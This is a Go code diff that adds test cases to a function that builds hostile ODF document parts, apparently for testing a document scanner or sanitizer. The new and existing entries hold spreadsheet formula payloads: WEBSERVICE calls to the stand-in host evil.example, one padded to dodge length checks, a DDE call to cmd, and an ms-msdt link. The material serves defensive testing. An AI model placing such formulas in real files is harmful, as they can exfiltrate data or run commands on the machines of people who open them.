@@ -65,6 +65,8 @@ func hostileODFParts() (files []File) {
 		"a link to a scheme":                          anchor("ms-msdt:/id"),
 		"a formula that asks a program, in ODF":       `<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;;&quot;y&quot;)"/>`,
 		"a formula that fetches, in ODF":              `<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
+		"a condition that fetches, in ODF":            `<table:content-validation table:condition="of:cell-content()=WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
+		"a condition that fetches, and is long":       `<table:content-validation table:condition="of:` + strings.Repeat("1+", 3000) + `WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
 		"a formula that fetches, and is long, in ODF": `<table:table-cell table:formula="of:=` + strings.Repeat("1+", 3000) + `WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
 	}
 	for _, about := range slices.Sorted(maps.Keys(texts)) {
